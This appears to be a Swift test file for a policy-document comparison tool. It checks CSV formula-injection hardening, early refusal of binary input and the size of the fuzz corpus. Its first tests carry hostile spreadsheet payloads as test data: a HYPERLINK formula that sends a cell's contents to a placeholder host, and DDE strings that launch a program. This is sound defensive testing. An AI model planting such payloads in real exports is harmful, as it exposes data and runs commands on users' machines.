import Foundation
import Testing
@testable import PolicyDiff

/// Inputs that try to turn a report into something else (a spreadsheet formula),
/// or to make the reader work before it refuses; and the fuzz inputs kept in git.
@Suite struct HardeningInputTests {
    // MARK: CSV formula injection

    @Test func cellsAChinesePageCouldTurnIntoFormulasAreShownAsText() {
        // Text a hostile page puts at the start of a clause, or of a unit's name.
        let hostile = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"详情\")", "+1+cmd|' /C calc'!A0", "-2+3",
                       "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1"]
        for cell in hostile {
            let field = CSVWriter.field(cell)
            #expect(field.hasPrefix("'") || field.hasPrefix("\"'"), "\(cell.debugDescription) is still a formula: \(field.debugDescription)")
        }
        #expect(CSVWriter.field("=HYPERLINK(\"x\")") == "\"'=HYPERLINK(\"\"x\"\")\"")
    }

    @Test func comparatorsNumbersAndOrdinaryTextStayAsWritten() {
        // The comparator column's bare "=", signed numbers of a value column, and text.
        for cell in ["=", ">=", "<=", "~", "-", "+", "-3.5", "+2", "-12", "96.85", "到2020年合格率达到97%以上", "@"] {
            #expect(CSVWriter.field(cell) == cell, "\(cell) was changed")
        }
    }

    @Test func theTargetTableGuardsItsTextColumnAndKeepsTheComparator() throws {
        let source = SourceText(path: "hostile.txt", format: .plainText, encoding: "UTF-8", paragraphs: [
            "关于开展质量提升行动的实施方案",
            "一、主要目标",
            "=HYPERLINK(\"http://example.invalid\",\"点击\")到2020年,农产品质量安全抽检合格率达到97%。",
        ])
        let document = Pipeline().document(from: source, id: "hostile")
        let csv = DocumentCSV.render(.targets, of: [document])
        #expect(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"), "a formula reached the CSV: \(csv)")
        let rows = csv.components(separatedBy: "\r\n").dropFirst().filter { !$0.isEmpty }
        for row in rows {
            for cell in row.split(separator: ",", omittingEmptySubsequences: false) {
                #expect(!(cell.count > 1 && "=+-@".contains(cell.first!) && Double(cell) == nil), "unguarded cell \(cell)")
            }
        }
    }

    // MARK: refusing before reading everything

    @Test func aBinaryStreamIsRefusedFromItsFirstBytesWithoutWaitingForTheRest() throws {
        // A FIFO whose writer sends 128 KB of NUL bytes and then holds it open: a
        // reader that reads to the end (or to the limit) before judging never returns
        // before the writer gives up; one that judges the first 64 KiB does.
        let scratch = try HardeningScratch()
        defer { scratch.remove() }
        let fifo = scratch.path("dump.txt")
        // The reader closes the FIFO while the writer may still be writing: an EPIPE
        // for the writer, not a SIGPIPE that ends the test process.
        signal(SIGPIPE, SIG_IGN)
        #expect(mkfifo(fifo, 0o600) == 0)
        let released = DispatchSemaphore(value: 0)
        let writerGaveUp = Flag()
        let writer = Thread {
            let fd = open(fifo, O_WRONLY)
            guard fd >= 0 else { return }
            let zeros = [UInt8](repeating: 0, count: 128 * 1024)
            _ = zeros.withUnsafeBytes { write(fd, $0.baseAddress, $0.count) }
            if released.wait(timeout: .now() + 20) == .timedOut { writerGaveUp.set() }
            close(fd)
        }
        writer.start()
        let outcome: ReadError?
        do {
            _ = try DocumentReader(maxInputBytes: 3 << 30).read(path: fifo)
            outcome = nil
        } catch {
            outcome = error
        }
        released.signal()
        #expect(!writerGaveUp.isSet, "the reader waited for the whole stream before refusing it")
        #expect(outcome?.reason == .binary)
    }

    @Test func aSparseDumpUnderARaisedLimitIsRefusedAsBinary() throws {
        let scratch = try HardeningScratch()
        defer { scratch.remove() }
        let dump = scratch.path("dump.txt")
        #expect(FileManager.default.createFile(atPath: dump, contents: Data("第一条 为了".utf8)))
        #expect(truncate(dump, 1 << 30) == 0)
        let result = try HardeningCLI.shell("\"$BIN\" extract --max-input-bytes 2000000000 \(HardeningCLI.quoted([dump]))")
        #expect(result.status == 1)
        #expect(result.stderrLines == ["policydiff: \(dump): looks like a binary file (NUL bytes or control characters), not a text or HTML document"])
    }

    @Test func aTextWithAByteOrderMarkIsStillJudgedOnTheWholeFile() {
        #expect(DocumentReader.refusal(forHead: [0xFF, 0xFE, 0x00, 0x4E]) == nil)
        // A PDF or .docx signature is its reader's to judge (it reads or refuses it by format).
        #expect(DocumentReader.refusal(forHead: Array("%PDF-1.7\n".utf8) + [0]) == nil)
        #expect(DocumentReader.refusal(forHead: Array("第一条".utf8) + [0, 0]) == .binary)
        #expect(DocumentReader.refusal(forHead: Array("一、总体要求".utf8)) == nil)
    }

    // MARK: fuzz inputs kept in git

    @Test(arguments: FuzzStage.allCases)
    func everyFuzzTargetHasItsSeedCorpusInTheTests(_ stage: FuzzStage) {
        let saved = FuzzRegressionTests.savedInputs.filter { $0.hasPrefix(stage.rawValue + "/") }
        #expect(saved.count >= 10, "Fixtures/fuzz/\(stage.rawValue) holds \(saved.count) inputs: the regression test would not run it")
    }

    @Test func theSeedCorpusStaysSmall() throws {
        var total = 0
        for input in FuzzRegressionTests.savedInputs {
            let attributes = try FileManager.default.attributesOfItem(atPath: FuzzRegressionTests.fixtures.appendingPathComponent(input).path)
            total += (attributes[.size] as? NSNumber)?.intValue ?? 0
        }
        #expect(total < 600_000, "the committed fuzz corpus is \(total) bytes")
    }

    private final class Flag: @unchecked Sendable {
        private let lock = NSLock()
        private var value = false
        func set() { lock.lock(); value = true; lock.unlock() }
        var isSet: Bool { lock.lock(); defer { lock.unlock() }; return value }
    }
}
